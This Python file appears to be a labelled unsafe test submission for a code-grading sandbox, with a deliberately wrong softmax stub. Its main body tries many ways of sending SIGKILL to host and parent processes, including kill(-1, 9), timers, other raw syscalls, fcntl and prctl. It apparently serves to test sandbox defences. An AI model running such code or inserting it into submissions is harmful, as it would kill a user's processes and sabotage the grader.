# Sends signals through timers, groups, descriptors and threads of others.
# exercise: softmax
# verdict: wrong
# unsafe: it would end every process of the user
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
HOST, PARENT = @HOST_PID@, @PARENT_PID@


class Event(ctypes.Structure):
    _fields_ = [("value", ctypes.c_void_p), ("signo", ctypes.c_int), ("notify", ctypes.c_int), ("tid", ctypes.c_int),
                ("rest", ctypes.c_char * 64)]


for pid in (HOST, PARENT, os.getppid()):
    timer = ctypes.c_void_p()
    if libc.timer_create(1, ctypes.byref(Event(None, signal.SIGKILL, 4, pid, b"")), ctypes.byref(timer)) == 0:
        print("gained a timer of", pid)
    for number, *arguments in ((62, pid, 9), (62, 0, 9), (62, -1, 9), (200, pid, 9), (234, pid, pid, 9),
                               (129, pid, 9, 0), (424, 3, 9, 0, 0), (302, pid, 0, 0, 0), (62, pid | 2**32, 9)):
        if libc.syscall(number, *map(ctypes.c_long, arguments)) == 0 and number != 302:
            print("gained a signal by", number, arguments)
    for command in (8, 15):
        if libc.fcntl(3, command, pid) == 0:
            print("gained an owner")
for command in (1, 4, 0x59616D61, 36):
    if libc.prctl(command, signal.SIGKILL, 0, 0, 0) == 0:
        print("gained", command)


def softmax(x, axis=-1, keepdims=False):
    return 0.0


logsumexp = log_softmax = softmax
